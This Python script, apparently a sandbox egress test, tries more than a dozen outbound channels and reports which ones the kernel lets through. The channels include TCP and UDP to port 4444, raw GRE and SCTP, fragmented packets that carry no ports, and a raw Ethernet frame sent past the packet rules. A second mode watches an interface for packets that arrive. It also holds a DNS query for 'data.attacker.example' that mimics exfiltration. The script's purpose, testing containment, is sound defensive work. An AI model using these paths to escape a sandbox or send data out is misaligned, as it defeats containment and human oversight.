"""Ways out that a hostile program may try, and a look at the wire that none of them may reach.

usage: packets.py try V4 V6        every way, to these addresses; prints a line for each that the kernel let through
       packets.py WAY ADDRESS      one of them
       packets.py frame INTERFACE ADDRESS   a UDP packet (IPv4, port 4444) in a frame of its own, past the packet rules
       packets.py mark RESOLVER NAME        a DNS question that stands out on the wire
       packets.py watch INTERFACE  prints "PROTOCOL ADDRESS[:PORT] [NAME]" for each packet that comes in there
"""
import socket
import struct
import sys

SCTP, FRAGMENT = 132, 44


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def connect(address, port, data=b"x"):
    with socket.socket(family(address), socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((address, port))
        s.sendall(data)
        s.recv(1)


def send(address, port, data=b"x"):
    with socket.socket(family(address), socket.SOCK_DGRAM) as s:
        s.sendto(data, (address, port))


def raw(address, protocol, data):
    with socket.socket(family(address), socket.SOCK_RAW, protocol) as s:
        s.sendto(data, (address, 0))


def echo(address):
    return struct.pack("!BBHHH", 128 if ":" in address else 8, 0, 0 if ":" in address else 0xF7FD, 1, 1)


def ping(address, kind):
    protocol = socket.IPPROTO_ICMPV6 if ":" in address else socket.IPPROTO_ICMP
    with socket.socket(family(address), kind, protocol) as s:
        s.sendto(echo(address), (address, 0))


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def sctp(address):
    with socket.socket(family(address), socket.SOCK_STREAM, SCTP) as s:
        s.settimeout(5)
        s.connect((address, 4444))


def ipv4(address, protocol, data, fragment=0):
    target = socket.inet_aton(address)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 9, fragment, 64, protocol, 0, b"\0" * 4, target) + data


def later_fragment(address):
    """What belongs to no first fragment has no ports that a rule could look at."""
    if ":" in address:
        raw(address, FRAGMENT, struct.pack("!BBHI", socket.IPPROTO_UDP, 0, 8 << 3, 9) + b"x" * 8)
        return
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.sendto(ipv4(address, socket.IPPROTO_UDP, b"x" * 8, fragment=1), (address, 0))


WAYS = {
    "tcp-22": lambda a: connect(a, 22),
    "tcp-853": lambda a: connect(a, 853),
    "tcp-8080": lambda a: connect(a, 8080),
    "dns-tcp": lambda a: connect(a, 53, struct.pack("!H", 35) + question("data.attacker.example")),
    "dns-udp": lambda a: send(a, 53, question("data.attacker.example")),
    "quic": lambda a: send(a, 443),
    "udp": lambda a: send(a, 4444),
    "udp-fragments": lambda a: send(a, 4445, b"x" * 4000),
    "ping": lambda a: ping(a, socket.SOCK_DGRAM),
    "raw-ping": lambda a: ping(a, socket.SOCK_RAW),
    "sctp": sctp,
    "raw-sctp": lambda a: raw(a, SCTP, b"x" * 32),
    "raw-gre": lambda a: raw(a, 47, b"x" * 32),
    "raw-tcp": lambda a: raw(a, socket.IPPROTO_TCP, struct.pack("!HHIIBBHHH", 4444, 4446, 1, 0, 0x50, 0x10, 1024, 0, 0)),
    "fragment": later_fragment,
}


def attempt(way, address):
    try:
        WAYS[way](address)
        print(way, address, "let through", flush=True)
    except OSError as e:
        print(way, address, "refused:", e.strerror or e, file=sys.stderr, flush=True)


def frame(interface, address):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as s:
        datagram = struct.pack("!HHHH", 4444, 4444, 9, 0) + b"x"
        s.sendto(ipv4(address, socket.IPPROTO_UDP, datagram), (interface, 0x0800, 0, 0, b"\xff" * 6))


def ports(protocol, rest):
    if protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP) and len(rest) >= 4:
        return ":%d" % struct.unpack("!H", rest[2:4])
    return ""


def asked(protocol, port, rest):
    if protocol != socket.IPPROTO_UDP or port != ":53" or len(rest) < 21:
        return ""
    labels, at = [], 20
    while at < len(rest) and rest[at]:
        labels.append(rest[at + 1:at + 1 + rest[at]].decode("ascii", "replace"))
        at += 1 + rest[at]
    return " " + ".".join(labels)


def describe(packet):
    if packet[0] >> 4 == 4:
        protocol, address, rest = packet[9], socket.inet_ntop(socket.AF_INET, packet[16:20]), packet[(packet[0] & 15) * 4:]
        if struct.unpack("!H", packet[6:8])[0] & 0x1FFF:
            return "later-fragment %s" % address
    else:
        protocol, address, rest = packet[6], socket.inet_ntop(socket.AF_INET6, packet[24:40]), packet[40:]
        if protocol == FRAGMENT:
            if struct.unpack("!H", rest[2:4])[0] & 0xFFF8:
                return "later-fragment %s" % address
            protocol, rest = rest[0], rest[8:]
    port = ports(protocol, rest)
    return "%d %s%s%s" % (protocol, address, port, asked(protocol, port, rest))


def watch(interface):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as s:
        s.bind((interface, 3))
        print("watching", flush=True)
        while True:
            packet, source = s.recvfrom(65535)
            if source[1] in (0x0800, 0x86DD) and source[2] != socket.PACKET_OUTGOING:
                print(describe(packet), flush=True)


def main(verb, *arguments):
    if verb == "watch":
        watch(*arguments)
    elif verb == "frame":
        frame(*arguments)
    elif verb == "mark":
        send(arguments[0], 53, question(arguments[1]))
    elif verb == "try":
        for address in arguments:
            for way in WAYS:
                attempt(way, address)
    else:
        attempt(verb, *arguments)


main(*sys.argv[1:])
